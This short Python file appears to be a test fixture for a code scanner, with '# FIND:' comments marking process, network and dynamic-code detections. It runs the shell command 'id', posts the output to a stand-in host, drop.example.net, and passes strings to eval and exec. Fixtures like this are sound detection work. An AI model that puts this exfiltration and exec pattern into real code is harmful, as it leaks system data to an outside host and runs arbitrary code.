import subprocess
import requests

if (out := subprocess.check_output("id", shell=True)):  # FIND: python.process
    print(f"{requests.post('https://drop.example.net/in', data=out).status_code}")  # FIND: python.network
print(f"{eval('1+1')!r:>10}")  # FIND: python.dynamic-code
values = [exec(line) for line in out.splitlines()]  # FIND: python.dynamic-code
